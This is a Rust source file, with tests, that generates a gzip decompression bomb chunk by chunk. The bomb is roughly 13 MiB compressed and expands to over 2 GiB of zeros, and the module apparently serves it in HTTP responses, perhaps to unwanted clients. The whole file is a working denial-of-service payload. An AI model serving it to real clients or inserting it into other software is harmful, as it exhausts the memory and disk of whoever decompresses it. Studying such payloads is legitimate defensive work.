//! A gzip "bomb" generated lazily: one deflate block with fixed Huffman codes holding a zero
//! byte and then `1 + 8 * blocks` copies of 258 zeros at distance 1 — 13 bits per 258 bytes,
//! so 13 MiB inflate to 2 GiB. After a 3-byte start the stream repeats one 13-byte pattern
//! (8 copies), so it is produced chunk by chunk without holding it. The trailer's CRC-32 of
//! the zeros is computed with GF(2) matrix powers, not by hashing gigabytes.

/// A bomb of `blocks` 13-byte patterns.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Bomb {
    blocks: u64,
}

/// Writes bits least-significant first, as deflate does.
#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    acc: u64,
    n: u32,
}

impl Bits {
    fn put(&mut self, value: u64, count: u32) {
        self.acc |= value << self.n;
        self.n += count;
        while self.n >= 8 {
            self.out.push(self.acc as u8);
            self.acc >>= 8;
            self.n -= 8;
        }
    }

    /// A Huffman code: its bits go most-significant first.
    fn code(&mut self, code: u64, len: u32) {
        let mut rev = 0;
        for i in 0..len {
            rev |= ((code >> i) & 1) << (len - 1 - i);
        }
        self.put(rev, len);
    }

    fn finish(mut self) -> Vec<u8> {
        if self.n > 0 {
            self.out.push(self.acc as u8);
        }
        self.out
    }
}

/// Fixed-Huffman copy of 258 bytes at distance 1: length code 285, distance code 0.
fn copy(b: &mut Bits) {
    b.code(0b1100_0101, 8);
    b.code(0, 5);
}

const GZIP_HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

impl Bomb {
    pub fn new(blocks: u64) -> Self {
        Bomb { blocks }
    }

    /// Header, block start, the literal zero and the first copy: 24 bits, byte-aligned.
    fn start() -> Vec<u8> {
        let mut b = Bits::default();
        b.put(1, 1); // BFINAL
        b.put(1, 2); // BTYPE = fixed Huffman
        b.code(0b0011_0000, 8); // literal 0
        copy(&mut b);
        let mut out = GZIP_HEADER.to_vec();
        out.extend(b.finish());
        out
    }

    /// Eight copies: 104 bits, exactly 13 bytes.
    fn pattern() -> Vec<u8> {
        let mut b = Bits::default();
        for _ in 0..8 {
            copy(&mut b);
        }
        b.finish()
    }

    /// Bytes it inflates to.
    pub fn inflated_len(&self) -> u64 {
        1 + 258 * (1 + 8 * self.blocks)
    }

    fn end(&self) -> Vec<u8> {
        let mut b = Bits::default();
        b.code(0, 7); // end of block (256)
        let mut out = b.finish();
        out.extend(crc32_of_zeros(self.inflated_len()).to_le_bytes());
        out.extend((self.inflated_len() as u32).to_le_bytes());
        out
    }

    /// Compressed length (the `Content-Length`).
    pub fn len(&self) -> u64 {
        (Self::start().len() + self.end().len()) as u64 + 13 * self.blocks
    }

    /// The stream in chunks of about `chunk` bytes, generated as they are taken.
    pub fn chunks(self, chunk: usize) -> impl Iterator<Item = Vec<u8>> {
        let per = (chunk / 13).max(1) as u64;
        let pattern = Self::pattern();
        let full = pattern.repeat(per as usize);
        let mut left = self.blocks;
        std::iter::once(Self::start())
            .chain(std::iter::from_fn(move || {
                if left == 0 {
                    return None;
                }
                let n = left.min(per);
                left -= n;
                Some(if n == per {
                    full.clone()
                } else {
                    pattern.repeat(n as usize)
                })
            }))
            .chain(std::iter::once(self.end()))
    }
}

/// `x` times the GF(2) matrix `m` (32 columns).
fn times(m: &[u32; 32], mut x: u32) -> u32 {
    let (mut sum, mut i) = (0, 0);
    while x != 0 {
        if x & 1 != 0 {
            sum ^= m[i];
        }
        x >>= 1;
        i += 1;
    }
    sum
}

fn square(m: &[u32; 32]) -> [u32; 32] {
    let mut sq = [0u32; 32];
    for (i, v) in sq.iter_mut().enumerate() {
        *v = times(m, m[i]);
    }
    sq
}

/// CRC-32 (IEEE, as gzip uses) of `n` zero bytes.
pub(crate) fn crc32_of_zeros(n: u64) -> u32 {
    // The CRC register's update for one zero bit, as a matrix; squared three times: one byte.
    let mut op = [0u32; 32];
    op[0] = 0xEDB8_8320;
    for (i, v) in op.iter_mut().enumerate().skip(1) {
        *v = 1 << (i - 1);
    }
    for _ in 0..3 {
        op = square(&op);
    }
    let (mut crc, mut k) = (0xFFFF_FFFFu32, n);
    while k > 0 {
        if k & 1 != 0 {
            crc = times(&op, crc);
        }
        op = square(&op);
        k >>= 1;
    }
    crc ^ 0xFFFF_FFFF
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn the_bomb_is_a_valid_gzip_stream_of_zeros() {
        let bomb = Bomb::new(1000);
        let bytes: Vec<u8> = bomb.chunks(100).flatten().collect();
        assert_eq!(bytes.len() as u64, bomb.len());
        let mut out = Vec::new();
        // GzDecoder checks the CRC-32 and length in the trailer.
        flate2::read::GzDecoder::new(&bytes[..])
            .read_to_end(&mut out)
            .expect("inflates");
        assert_eq!(out.len() as u64, bomb.inflated_len());
        assert!(out.iter().all(|b| *b == 0));
    }

    #[test]
    fn crc_of_zeros_matches_a_direct_crc() {
        for n in [0u64, 1, 2, 258, 1000, 65_537] {
            let mut h = flate2::Crc::new();
            h.update(&vec![0u8; n as usize]);
            assert_eq!(crc32_of_zeros(n), h.sum(), "n = {n}");
        }
    }

    #[test]
    fn the_served_bomb_is_small_and_inflates_to_gigabytes() {
        let bomb = Bomb::new(super::super::respond::BOMB_BLOCKS);
        assert!(bomb.len() < 16 * 1024 * 1024, "{}", bomb.len());
        assert!(
            bomb.inflated_len() > 2_000_000_000,
            "{}",
            bomb.inflated_len()
        );
    }
}
